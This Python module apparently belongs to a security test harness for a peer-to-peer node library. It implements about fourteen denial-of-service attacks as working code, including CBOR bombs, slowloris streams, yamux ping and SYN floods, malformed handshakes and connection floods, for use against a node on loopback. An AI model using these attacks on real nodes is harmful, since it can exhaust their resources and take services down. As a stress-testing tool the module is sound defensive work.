"""The attacks of issue 8, one async function each, runnable against any node on loopback.

Every attack has the signature `await attack(target, seconds, **intensity) -> dict[str, int]`:
it runs for `seconds` (then stops and closes everything it opened) and returns counts of what it
did (connections, streams, bytes, what the node answered). It never asserts anything; the
harness (`hostile.harness`) measures the node and judges. `ATTACKS` lists them by name.
"""

from __future__ import annotations

import os
from collections import Counter
from collections.abc import Awaitable, Callable
from typing import Any

import attrs
import trio

from p2pnode import codec
from p2pnode.cluster.membership import REVOCATION, SNAPSHOT
from p2pnode.cluster.status import fetch_status
from p2pnode.errors import P2PNodeError
from p2pnode.host import Connection, Host, HostConfig, open_host
from p2pnode.identity import KeyPair, PeerId
from p2pnode.multiaddr import Multiaddr
from p2pnode.platform.bus import PULL, PULL_LIMITS, PUSH, PUSH_LIMITS
from p2pnode.streamio import MessageReader, send_message
from p2pnode.varint import encode as uvarint

from . import frames, payloads
from .server import HostileServer, open_hostile_server
from .wire import NOISE_PROTOCOL, close_connection, secure_and_select_yamux

Counts = dict[str, int]
NET_ERRORS: tuple[type[BaseException], ...] = (
    OSError, trio.BrokenResourceError, trio.ClosedResourceError, trio.TooSlowError, P2PNodeError,
)
WS_MESSAGE = 4 << 20  # the WebSocket message limit on main: a message this size is still buffered
DIAL_TIMEOUT = 10.0
PULL_WAIT = 2.0  # a node pulls within moments of a connection, if it pulls at all


@attrs.frozen
class Target:
    """The node under attack. `addr` is its TCP multiaddr with /p2p/; WebSocket shares the port
    unless `ws_addr` says otherwise. `server` is set when the node bootstraps from the attacker."""

    addr: Multiaddr
    ws_addr: Multiaddr | None = None
    cluster_id: str = ""
    server: HostileServer | None = None

    @property
    def peer_id(self) -> PeerId:
        pid = self.addr.peer_id
        assert pid is not None, "the target multiaddr must end in /p2p/<peer id>"
        return pid

    @property
    def ip(self) -> str:
        return self.addr.value_for("ip4") or self.addr.value_for("ip6") or "127.0.0.1"

    @property
    def port(self) -> int:
        return int(self.addr.value_for("tcp") or 0)

    @property
    def ws_port(self) -> int:
        return int((self.ws_addr or self.addr).value_for("tcp") or 0)


# -- building blocks ------------------------------------------------------------------------------
async def _quietly(fn: Callable[..., Awaitable[None]], *args: Any) -> None:
    """Run a helper task whose connection may die under it; that ends the task, not the attack."""
    try:
        await fn(*args)
    except NET_ERRORS:
        pass


async def _blind_pongs(mux: frames.RawMux) -> None:
    """Answer the node's keepalive pings without reading them: its opaques count up from 1."""
    pongs = b"".join(frames.pong(i) for i in range(1, 65))
    while True:
        await mux.send(pongs)
        await trio.sleep(1)


async def _raw_session(target: Target, identity: KeyPair) -> frames.RawMux:
    """An authenticated connection as `identity`, driven by hand from the yamux layer up."""
    tcp = await trio.open_tcp_stream(target.ip, target.port)
    try:
        with trio.fail_after(DIAL_TIMEOUT):
            channel, initial = await secure_and_select_yamux(tcp, identity, target.peer_id)
    except BaseException:
        await tcp.aclose()
        raise
    return frames.RawMux(channel, initial)


@attrs.define
class _Client:
    """The public host as a misbehaving client: one identity, one connection, redialed if lost."""

    host: Host
    target: Target
    conn: Connection | None = None

    async def connection(self) -> Connection:
        if self.conn is None or self.conn.is_closed:
            with trio.fail_after(DIAL_TIMEOUT):
                self.conn = await self.host.connect(self.target.addr)
        return self.conn


async def _run_slots(seconds: float, slots: int, slot: Callable[[int], Awaitable[None]]) -> None:
    """Run `slot(i)` for i in range(slots) concurrently for `seconds`, then cancel them all."""
    async with trio.open_nursery() as nursery:
        for i in range(slots):
            nursery.start_soon(slot, i)
        await trio.sleep(seconds)
        nursery.cancel_scope.cancel()


# -- 1. shared-reference snapshot: push, inbound pull, bootstrap pull ---------------------------------
async def _push_loop(target: Target, seconds: float, message: bytes, concurrency: int) -> Counts:
    """Push `message` over and over on `concurrency` streams, each waiting for the node's verdict."""
    counts: Counter[str] = Counter()
    async with open_host(KeyPair.generate(), HostConfig()) as host:
        client = _Client(host, target)

        async def slot(_: int) -> None:
            while True:
                try:
                    stream = await host.new_stream(await client.connection(), PUSH)
                    try:
                        await send_message(stream, message, PUSH_LIMITS.max_request)
                        counts["pushes"] += 1
                        counts["bytes_sent"] += len(message)
                        with trio.fail_after(60):
                            verdict = codec.decode_map(await MessageReader(stream, PUSH_LIMITS.max_reply).one(), "verdict")
                        counts[f"verdict_{verdict.get('result')}"] += 1
                    finally:
                        await stream.aclose()
                except NET_ERRORS:
                    counts["errors"] += 1
                    await trio.sleep(0.1)

        await _run_slots(seconds, concurrency, slot)
    return dict(counts)


async def snapshot_refs_push(target: Target, seconds: float, *, concurrency: int = 1, copies: int = payloads.SHARED_COPIES) -> Counts:
    """Push a self-signed snapshot whose member list is one member referenced 10,000 times."""
    env = payloads.shared_ref_snapshot(KeyPair.generate(), target.cluster_id, copies)
    return await _push_loop(target, seconds, payloads.snapshot_push(env), concurrency)


async def cbor_bomb_push(target: Target, seconds: float, *, concurrency: int = 2, size: int = payloads.MAX_PUSH) -> Counts:
    """Push 4 MiB of empty CBOR arrays as a document-push request, again and again."""
    return await _push_loop(target, seconds, payloads.cbor_bomb_push(size), concurrency)


async def _serve_pulls_inbound(target: Target, seconds: float, reply: dict[str, Any]) -> Counts:
    """Dial the node as a hostile server: it pulls from us on connect and gets `reply`. We drop
    the connection once it has read the reply, and dial again; also when it has not pulled within
    PULL_WAIT (a node may pull from a stranger's connection only now and then: dial until it does)."""
    counts: Counter[str] = Counter()
    async with open_hostile_server(reply) as server:
        with trio.move_on_after(seconds):
            while True:
                try:
                    with trio.fail_after(DIAL_TIMEOUT):
                        conn = await server.host.connect(target.addr)
                except NET_ERRORS:
                    counts["dial_failed"] += 1
                    await trio.sleep(0.2)
                    continue
                counts["connections"] += 1
                with trio.move_on_after(PULL_WAIT) as waiting:
                    await server.wait_served()
                    while not conn.is_closed:  # the server hangs up once the node has read the reply
                        await trio.sleep(0.01)
                if waiting.cancelled_caught:
                    counts["not_pulled"] += 1
                    await close_connection(conn)
        counts["pulls_served"] = server.served
        counts["pulls_broken"] = server.failed
    return dict(counts)


async def snapshot_refs_pull(target: Target, seconds: float, *, copies: int = payloads.SHARED_COPIES) -> Counts:
    """Serve the shared-reference snapshot to the node's on-connect pull (we dial it)."""
    env = payloads.shared_ref_snapshot(KeyPair.generate(), target.cluster_id, copies)
    return await _serve_pulls_inbound(target, seconds, payloads.snapshot_reply(env))


def snapshot_refs_bootstrap_reply(key: KeyPair, cluster_id: str) -> dict[str, Any]:
    return payloads.snapshot_reply(payloads.shared_ref_snapshot(key, cluster_id))


async def _served_by_bootstrap(target: Target, seconds: float) -> Counts:
    """The node dials *us* (we are its bootstrap peer) and pulls; the server answers every pull
    and hangs up so the node dials again. Needs `target.server` (the harness opens it first)."""
    server = target.server
    if server is None:
        raise ValueError("this attack needs the node to bootstrap from a HostileServer (target.server)")
    before_served, before_failed = server.served, server.failed
    await server.arm()
    try:
        await trio.sleep(seconds)
    finally:
        server.disarm()
    return {"pulls_served": server.served - before_served, "pulls_broken": server.failed - before_failed}


async def snapshot_refs_bootstrap(target: Target, seconds: float) -> Counts:
    """The node's own pull from its (hostile) bootstrap peer returns the shared-reference snapshot."""
    return await _served_by_bootstrap(target, seconds)


# -- 2. memory before and after authentication ------------------------------------------------------
async def ws_slowloris(target: Target, seconds: float, *, connections: int = 120, message: int = WS_MESSAGE) -> Counts:
    """WebSocket connections that announce a `message`-byte binary message and send all but its
    last byte, before any Noise handshake; each redials when the node drops it."""
    counts: Counter[str] = Counter()
    body = bytes(256 * 1024)

    async def slot(_: int) -> None:
        while True:
            try:
                tcp = await trio.open_tcp_stream(target.ip, target.ws_port)
            except OSError:
                counts["connect_failed"] += 1
                await trio.sleep(0.1)
                continue
            async with tcp:
                try:
                    with trio.fail_after(DIAL_TIMEOUT):
                        await tcp.send_all(frames.ws_upgrade_request(target.ip, target.ws_port))
                        response = b""
                        while b"\r\n\r\n" not in response:
                            chunk = await tcp.receive_some(4096)
                            if not chunk:
                                raise trio.BrokenResourceError("closed during the WebSocket upgrade")
                            response += chunk
                    if not response.startswith(b"HTTP/1.1 101"):
                        counts["upgrade_refused"] += 1
                        continue
                    counts["connections"] += 1
                    await tcp.send_all(frames.ws_binary_header(message))
                    left = message - 1
                    while left:
                        n = min(left, len(body))
                        await tcp.send_all(body[:n])
                        left -= n
                        counts["bytes_sent"] += n
                    counts["messages_held"] += 1
                    while await tcp.receive_some(65536):
                        pass
                    counts["closed_by_node"] += 1
                except NET_ERRORS:
                    counts["closed_by_node"] += 1
            await trio.sleep(0.05)

    await _run_slots(seconds, connections, slot)
    return dict(counts)


async def push_slowloris(target: Target, seconds: float, *, streams: int = 200, announce: int = payloads.MAX_PUSH) -> Counts:
    """On one authenticated connection, `streams` document pushes that each announce `announce`
    bytes and send all but the last; a stream the node resets is opened again."""
    counts: Counter[str] = Counter()
    body = memoryview(bytes(announce - 1))
    prefix = uvarint(announce)
    async with open_host(KeyPair.generate(), HostConfig()) as host:
        client = _Client(host, target)

        async def slot(_: int) -> None:
            while True:
                try:
                    stream = await host.new_stream(await client.connection(), PUSH)
                except NET_ERRORS:
                    counts["open_failed"] += 1
                    await trio.sleep(0.1)
                    continue
                counts["streams"] += 1
                try:
                    await stream.send_all(prefix)
                    await stream.send_all(body)
                    counts["bytes_sent"] += len(body)
                    counts["pushes_held"] += 1
                    while await stream.receive_some(65536):
                        pass
                    counts["ended_by_node"] += 1
                except NET_ERRORS:
                    counts["reset_by_node"] += 1
                finally:
                    with trio.CancelScope(shield=True):
                        await stream.reset()

        await _run_slots(seconds, streams, slot)
    return dict(counts)


async def _session_after_session(
    target: Target, seconds: float, counts: Counter[str], flood: Callable[[frames.RawMux], Awaitable[None]], *, read: bool
) -> None:
    """For `seconds`: open an authenticated raw session as a new identity, run `flood(mux)` until
    the node ends the connection, then open the next. With `read`, the node's frames are read and
    answered meanwhile (pongs, RSTs for its streams); without, they are never read, and the node's
    keepalive pings are answered blind (pongs for opaque 1…64 every second)."""
    with trio.move_on_after(seconds):
        while True:
            try:
                mux = await _raw_session(target, KeyPair.generate())
            except NET_ERRORS:
                counts["dial_failed"] += 1
                await trio.sleep(0.2)
                continue
            counts["connections"] += 1
            try:
                async with trio.open_nursery() as nursery:
                    if read:
                        nursery.start_soon(mux.serve)
                    else:
                        nursery.start_soon(_quietly, _blind_pongs, mux)
                    try:
                        await flood(mux)
                    except NET_ERRORS:
                        pass
                    counts["closed_by_node"] += 1  # the connection ended under us (not our cancellation)
                    nursery.cancel_scope.cancel()
            finally:
                if read:
                    counts["rst_received"] += mux.counts["rst_in"]
                await mux.aclose()


async def ping_flood(target: Target, seconds: float, *, batch: int = 5000) -> Counts:
    """yamux pings as fast as the node reads them, never reading a pong."""
    counts: Counter[str] = Counter()
    opaque = 1 << 20

    async def flood(mux: frames.RawMux) -> None:
        nonlocal opaque
        while True:
            burst = b"".join(frames.ping(opaque + i) for i in range(batch))
            opaque = (opaque + batch) % (1 << 31) or 1 << 20
            await mux.send(burst)
            counts["pings_sent"] += batch

    await _session_after_session(target, seconds, counts, flood, read=False)
    return dict(counts)


# -- 3. logging as a weapon ---------------------------------------------------------------------------
async def syn_flood(target: Target, seconds: float, *, batch: int = 512) -> Counts:
    """Open streams (SYN) without end on one connection, far past the 256-stream limit. The node's
    output is read and thrown away, so it is never slowed by us: only by its own work."""
    counts: Counter[str] = Counter()

    async def flood(mux: frames.RawMux) -> None:
        while not mux.closed.is_set():
            await mux.send(b"".join(frames.syn(sid) for sid in mux.take_ids(batch)))
            counts["syns_sent"] += batch

    await _session_after_session(target, seconds, counts, flood, read=True)
    return dict(counts)


def _junk(i: int) -> bytes:
    if i % 2:
        # a valid multistream proposal of /noise, then a Noise message 1 too short to be a key
        return frames.multistream(frames.MULTISTREAM, NOISE_PROTOCOL) + b"\x00\x05" + os.urandom(5)
    return b"\x05" + os.urandom(63)  # a multistream message that is not the multistream header


async def junk_handshakes(target: Target, seconds: float, *, parallel: int = 16) -> Counts:
    """Connections that send a broken handshake, read the node's answer and hang up, over and over."""
    counts: Counter[str] = Counter()

    async def slot(i: int) -> None:
        n = i
        while True:
            n += parallel
            try:
                tcp = await trio.open_tcp_stream(target.ip, target.port)
            except OSError:
                counts["connect_failed"] += 1
                await trio.sleep(0.05)
                continue
            async with tcp:
                try:
                    await tcp.send_all(_junk(n))
                    counts["handshakes"] += 1
                    with trio.move_on_after(15):
                        while await tcp.receive_some(65536):
                            pass
                except NET_ERRORS:
                    pass

    await _run_slots(seconds, parallel, slot)
    return dict(counts)


async def duplicate_connections(target: Target, seconds: float, *, parallel: int = 32, hold: float = 0.02) -> Counts:
    """Authenticated connections all as one identity, `parallel` at a time, each held for `hold`
    seconds: every new one makes the node choose between two connections to the same peer."""
    counts: Counter[str] = Counter()
    identity = KeyPair.generate()

    async def slot(_: int) -> None:
        while True:
            try:
                mux = await _raw_session(target, identity)
            except NET_ERRORS:
                counts["failed"] += 1
                await trio.sleep(0.05)
                continue
            counts["connections"] += 1
            try:
                with trio.move_on_after(hold):
                    await mux.serve()
            finally:
                await mux.aclose()

    await _run_slots(seconds, parallel, slot)
    return dict(counts)


async def revocations_pull(target: Target, seconds: float, *, count: int = 1000) -> Counts:
    """Serve 1,000 revocations not signed by the system key to the node's on-connect pull."""
    key = KeyPair.generate()
    return await _serve_pulls_inbound(target, seconds, payloads.bogus_revocations_reply(key, target.cluster_id, count))


# -- 4. state that grows forever -------------------------------------------------------------------
async def identity_churn(target: Target, seconds: float, *, parallel: int = 8) -> Counts:
    """Authenticated connections, each from a new identity, closed as soon as they are up."""
    counts: Counter[str] = Counter()

    async def slot(_: int) -> None:
        while True:
            try:
                mux = await _raw_session(target, KeyPair.generate())
            except NET_ERRORS:
                counts["failed"] += 1
                await trio.sleep(0.05)
                continue
            counts["identities"] += 1
            await mux.aclose()

    await _run_slots(seconds, parallel, slot)
    return dict(counts)


async def idle_connections(target: Target, seconds: float, *, connections: int = 1000, parallel: int = 32) -> Counts:
    """`connections` authenticated non-member connections (a new identity each) that then sit idle:
    they answer keepalive pings and refuse the node's streams, and send nothing else."""
    counts: Counter[str] = Counter()
    open_now = 0
    limiter = trio.CapacityLimiter(parallel)

    async def slot(_: int) -> None:
        nonlocal open_now
        try:
            async with limiter:
                mux = await _raw_session(target, KeyPair.generate())
        except NET_ERRORS:
            counts["failed"] += 1
            return
        counts["established"] += 1
        open_now += 1
        try:
            await mux.serve()
            counts["closed_by_node"] += 1
        finally:
            open_now -= 1
            await mux.aclose()

    async with trio.open_nursery() as nursery:
        for i in range(connections):
            nursery.start_soon(slot, i)
        await trio.sleep(seconds)
        counts["open_at_end"] = open_now
        nursery.cancel_scope.cancel()
    return dict(counts)


# A client holding nothing: every snapshot and revocation the node holds, in one round.
_PULL_EVERYTHING = {"summaries": {SNAPSHOT: "", REVOCATION: ""}, "have": {SNAPSHOT: [], REVOCATION: []}}


async def nonmember_reads(target: Target, seconds: float, *, rate: float = 4.0) -> Counts:
    """A non-member pulls the snapshot (names, addresses) and reads the full status, `rate` times a second."""
    counts: Counter[str] = Counter()
    async with open_host(KeyPair.generate(), HostConfig()) as host:
        client = _Client(host, target)
        with trio.move_on_after(seconds):
            while True:
                try:
                    conn = await client.connection()
                    stream = await host.new_stream(conn, PULL)
                    try:
                        with trio.fail_after(10):
                            await send_message(stream, codec.encode(_PULL_EVERYTHING), PULL_LIMITS.max_request)
                            reply = codec.decode_map(await MessageReader(stream, PULL_LIMITS.max_reply).one(), "pull reply")
                    finally:
                        await stream.aclose()
                    docs = reply.get("docs") or []
                    got_snapshot = any(isinstance(d, dict) and d.get("type") == SNAPSHOT for d in docs)
                    counts["snapshots_read" if got_snapshot else "pulls_without_snapshot"] += 1
                except NET_ERRORS:
                    counts["pulls_refused"] += 1
                try:
                    with trio.fail_after(10):
                        view = await fetch_status(host, await client.connection(), members=True)
                    counts["status_read"] += 1
                    counts["members_seen"] = max(counts["members_seen"], len(view.get("members") or []))
                except NET_ERRORS:
                    counts["status_refused"] += 1
                await trio.sleep(1 / rate)
    return dict(counts)


# -- registry -------------------------------------------------------------------------------------
AttackFn = Callable[..., Awaitable[Counts]]


@attrs.frozen
class Attack:
    name: str
    summary: str
    run: AttackFn
    # Set for attacks where the node dials the attacker: the harness opens a HostileServer serving
    # bootstrap_reply(key, cluster_id) and gives its address to the node as init_connections.
    bootstrap_reply: Callable[[KeyPair, str], dict[str, Any]] | None = None


ATTACKS: dict[str, Attack] = {a.name: a for a in [
    Attack("snapshot-refs-push", "self-signed snapshot, 1 member × 10,000 CBOR shared refs, pushed", snapshot_refs_push),
    Attack("snapshot-refs-pull", "the same snapshot served to the node's on-connect pull (attacker dials in)", snapshot_refs_pull),
    Attack("snapshot-refs-bootstrap", "the same snapshot served by the node's bootstrap peer (node dials out)",
           snapshot_refs_bootstrap, snapshot_refs_bootstrap_reply),
    Attack("cbor-bomb-push", "4 MiB of empty CBOR arrays in a document push", cbor_bomb_push),
    Attack("ws-slowloris", "120 WebSocket connections, 4 MiB message minus one byte, before Noise", ws_slowloris),
    Attack("push-slowloris", "200 streams × a 4 MiB push minus one byte, on one connection", push_slowloris),
    Attack("ping-flood", "yamux pings whose pongs are never read", ping_flood),
    Attack("syn-flood", "yamux SYNs past the 256-stream limit", syn_flood),
    Attack("junk-handshakes", "connections with a broken multistream/Noise handshake", junk_handshakes),
    Attack("duplicate-connections", "authenticated connections, all as one identity", duplicate_connections),
    Attack("revocations-pull", "pull reply with 1,000 revocations not signed by the system key", revocations_pull),
    Attack("identity-churn", "authenticated connections, a new identity each", identity_churn),
    Attack("idle-connections", "1,000 authenticated idle non-member connections", idle_connections),
    Attack("nonmember-reads", "a non-member pulls the snapshot and reads status", nonmember_reads),
]}
